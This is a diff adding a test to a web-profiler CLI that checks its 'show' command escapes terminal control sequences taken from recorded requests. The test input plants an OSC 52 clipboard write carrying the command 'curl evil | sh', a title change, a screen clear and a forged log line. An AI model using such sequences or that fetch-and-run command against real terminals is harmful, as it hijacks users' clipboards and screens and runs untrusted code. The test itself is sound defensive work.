@@ -57,4 +57,30 @@ describe('web-profiler CLI', () => {
     expect((await cli(['--help'])).out).toContain('usage: web-profiler');
     expect((await cli(['frobnicate', '--db', ':memory:'])).err).toContain('unknown command "frobnicate"');
   });
+
+  it('shows recorded text as data: no escape sequence from a request reaches the terminal, no line is forged', async () => {
+    const db = tempDb();
+    const profiler = webProfiler({ database: db, onError: () => {} });
+    const app = express();
+    app.use(profiler);
+    // What one anonymous request can plant: a clipboard write (OSC 52), a title, a screen clear, a forged line.
+    app.get('/plant', (req) => {
+      req.log.warn(`copied \x1b]52;c;${Buffer.from('curl evil | sh').toString('base64')}\x07 title \x1b]0;owned\x07\n09:00:00.000 INFO  all is well`);
+      throw new Error('cleared \x1b[2J\x1b[H here');
+    });
+    app.use(profiler.errorHandler);
+    const server = await listen(app);
+    const token = (await fetch(`${server.url}/plant`, { headers: { accept: 'text/plain' } })).headers.get('x-debug-token')!;
+    await server.close();
+    profiler.close();
+    const lines: string[] = [];
+    expect(await run(['show', token, '--db', db], { out: (l) => lines.push(l), err: (l) => lines.push(l) }, {})).toBe(0);
+    const text = lines.join('\n');
+    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
+    expect(text).toContain('\\u001b]52;c;');
+    expect(text).toContain('cleared \\u001b[2J\\u001b[H here');
+    // The planted newline is spelled out: the forged line is part of the real one.
+    expect(text).toMatch(/WARN +copied .*\\u000a09:00:00\.000 INFO  all is well/);
+    expect(text.split('\n').filter((l) => l.includes('all is well'))).toHaveLength(1);
+  });
 });
